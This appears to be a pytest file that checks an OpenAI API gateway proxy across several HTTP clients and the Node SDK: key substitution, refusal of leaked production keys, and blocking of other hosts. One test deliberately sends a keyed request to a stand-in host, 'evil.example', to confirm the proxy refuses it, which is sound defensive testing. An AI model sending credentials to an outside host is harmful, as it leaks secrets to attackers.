"""Programs other than the Python SDK, each a process that gets the README's variables, no more."""

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.fake_openai import FakeOpenAIThread
from tests.support.fake_openai.asking import TEXT
from tests.support.gateway_process import ROOT, GatewayProcess, Keys

NODE = ROOT / "tests" / "support" / "node"
CALLS = "openai_gateway_requests_total"
INSTALL_S, RUN_S = 50.0, 30.0
OFFLINE = re.compile(r"\bE(NOTFOUND|AI_AGAIN|CONN\w+|TIMEDOUT|NETWORK|HOSTUNREACH|40[134]|5\d\d)\b")
BODY = '{"model": "gpt-6-luna", "messages": [{"role": "user", "content": "Say hello."}]}'
URL = "https://api.openai.com/v1/chat/completions"
ELSEWHERE = "https://evil.example/v1/chat/completions"

HTTPX = """
import httpx, os, sys
key = os.environ["OPENAI_API_KEY"]
headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
print(httpx.post(sys.argv[1], content=sys.argv[2], headers=headers).text)
"""
REQUESTS = HTTPX.replace("httpx", "requests").replace("content=", "data=")
AIOHTTP = """
import aiohttp, asyncio, os, sys
key = os.environ["OPENAI_API_KEY"]
headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
async def main():
    async with aiohttp.ClientSession(trust_env=True, headers=headers) as session:
        async with session.post(sys.argv[1], data=sys.argv[2]) as answer:
            print(await answer.text())
asyncio.run(main())
"""
CURL = """
curl -sS --max-time 20 "$1" -H "authorization: Bearer $OPENAI_API_KEY" \
    -H "content-type: application/json" -d "$2"
"""
PROGRAMS = {
    "httpx": [sys.executable, "-c", HTTPX],
    "requests": [sys.executable, "-c", REQUESTS],
    "aiohttp": [sys.executable, "-c", AIOHTTP],
    "curl": ["/bin/sh", "-c", CURL, "curl"],
}


@pytest.fixture(autouse=True)
def only_the_staging_key_arrives(fake: FakeOpenAIThread, keys: Keys) -> Iterator[None]:
    yield
    assert keys.production.encode() not in fake.received_bytes()


def run(
    command: list[str], env: dict[str, str], folder: Path, seconds: float = RUN_S
) -> "subprocess.CompletedProcess[str]":
    return subprocess.run(  # noqa: S603 -- the clients of this file
        command, env=env, cwd=folder, timeout=seconds, check=False,
        capture_output=True, encoding="utf-8",
    )  # fmt: skip


def found(program: str) -> list[str]:
    if program == "curl" and shutil.which("curl") is None:
        pytest.skip("no curl here")
    return PROGRAMS[program]


@pytest.mark.parametrize("program", PROGRAMS)
def test_the_readmes_variables_are_enough(
    program: str, gateway: GatewayProcess, fake: FakeOpenAIThread, keys: Keys, tmp_path: Path
) -> None:
    done = run([*found(program), URL, BODY], gateway.client_env(keys.production), tmp_path)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["choices"][0]["message"]["content"] == TEXT
    assert fake.requests[0].values("authorization") == [f"Bearer {keys.staging}"]
    assert fake.requests[0].body.decode() == BODY


@pytest.mark.parametrize("program", PROGRAMS)
def test_a_refusal_reads_as_openais(
    program: str, gateway: GatewayProcess, fake: FakeOpenAIThread, keys: Keys, tmp_path: Path
) -> None:
    leak = BODY.replace("Say hello.", keys.production)
    done = run([*found(program), URL, leak], gateway.client_env(keys.production), tmp_path)
    error = json.loads(done.stdout)["error"]
    assert error.keys() == {"message", "type", "param", "code"}
    assert error["code"] == "gateway_production_key_leaked"
    assert keys.production not in done.stdout + done.stderr
    assert fake.requests == []


@pytest.mark.parametrize("program", PROGRAMS)
def test_another_host_is_refused_by_the_proxy(
    program: str, gateway: GatewayProcess, keys: Keys, tmp_path: Path
) -> None:
    done = run([*found(program), ELSEWHERE, BODY], gateway.client_env(keys.production), tmp_path)
    assert done.returncode != 0
    assert "403" in done.stderr


# ---- Node ---------------------------------------------------------------------------------------


def version() -> tuple[int, ...]:
    """Node's version; the test is skipped where there is none that does."""
    if shutil.which("node") is None or shutil.which("npm") is None:
        pytest.skip("no node with npm here")
    told = run(["node", "--version"], dict(os.environ), Path.cwd()).stdout
    major, minor, patch = map(int, told.strip().removeprefix("v").split("."))
    if major < 20:
        pytest.skip(f"Node {major} is too old, 20 is the least")
    return major, minor, patch


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the application and its packages; skips where the registry does not answer."""
    version()
    folder = tmp_path_factory.mktemp("node") / "application"
    shutil.copytree(NODE, folder, ignore=shutil.ignore_patterns("node_modules"))
    install = ["npm", "install", "--ignore-scripts", "--no-audit", "--no-fund", "--no-package-lock"]
    install += ["--loglevel=error", "--fetch-retries=0", f"--cache={folder.parent / 'cache'}"]
    try:
        done = run(install, dict(os.environ), folder, INSTALL_S)
    except subprocess.TimeoutExpired:
        pytest.skip(f"the package registry was too slow: no answer in {INSTALL_S:.0f} s")
    if done.returncode and OFFLINE.search(done.stderr):
        pytest.skip(f"the package registry does not answer: {done.stderr.splitlines()[0]}")
    assert done.returncode == 0, done.stderr
    return folder


def test_the_node_sdk(
    node: Path, gateway: GatewayProcess, fake: FakeOpenAIThread, keys: Keys
) -> None:
    env = gateway.client_env(keys.production)
    reads_proxy = version() >= (24,) or (22, 21) <= version() < (23,)
    command = ["node", "--import", "./proxy.mjs", "application.mjs"]
    if reads_proxy:
        command, env = ["node", "application.mjs"], env | {"NODE_USE_ENV_PROXY": "1"}
    before = gateway.metric(CALLS)
    done = run(command, env, node)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {
        "whole": TEXT,
        "streamed": TEXT,
        "file": "calls.jsonl",
        "content": True,
        "refused": ["PermissionDeniedError", 403, "gateway_production_key_leaked"],
    }
    assert gateway.metric(CALLS) - before == 5  # the refused one was not tried again
    offered = [value for call in fake.requests for value in call.values("authorization")]
    assert offered == [f"Bearer {keys.staging}"] * 4
